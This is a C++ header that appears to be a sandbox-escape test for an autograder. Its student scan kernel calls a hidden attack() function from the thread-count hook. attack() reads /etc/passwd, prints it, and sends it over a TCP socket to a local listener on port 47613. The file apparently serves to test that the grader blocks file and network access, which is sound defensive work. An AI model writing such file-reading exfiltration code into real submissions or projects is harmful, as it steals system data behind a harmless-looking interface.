// Reads /etc/passwd, prints it (for the grade table to repeat) and sends it to a listener on
// 127.0.0.1:47613.
#pragma once

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdio>
#include <string>

#include "student/student_api.h"

inline bool attack() {
    std::string secret;
    if (FILE* f = std::fopen("/etc/passwd", "r")) {
        for (int c; (c = std::fgetc(f)) != EOF;) secret += char(c);
        std::fclose(f);
    }
    std::printf("leaked: %s\n", secret.c_str());
    bool sent = false;
    const int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s >= 0) {
        sockaddr_in to{};
        to.sin_family = AF_INET;
        to.sin_port = htons(47613);
        to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        if (connect(s, reinterpret_cast<sockaddr*>(&to), sizeof to) == 0)
            sent = write(s, secret.data(), secret.size()) >= 0;
        close(s);
    }
    return !secret.empty() || sent;
}

template <class T, class Op>
struct StudentScan {
    ScanIO<T> io;

    // 2000 threads: no block has them, so an attack that got through shows in the row.
    static int threads_for(int) { return attack() ? 2000 : 32; }
    static int shared_elements(int n) { return n; }

    template <class Block>
    void operator()(Block& b) const {
        auto temp = shared_memory<T>(b, io.n);
        for (int i = b.thread(); i < io.n; i += b.threads()) temp[i] = io.load(b, i);
        b.sync(__LINE__);  // load
        if (b.thread() == 0) {
            T sum = Op::identity();
            for (int i = 0; i < io.n; ++i) {
                const T v = temp[i];
                temp[i] = io.inclusive ? Op::combine(sum, v) : sum;
                sum = Op::combine(sum, v);
            }
        }
        b.sync(__LINE__);  // scan
        for (int i = b.thread(); i < io.n; i += b.threads()) io.store(b, i, temp[i]);
    }
};
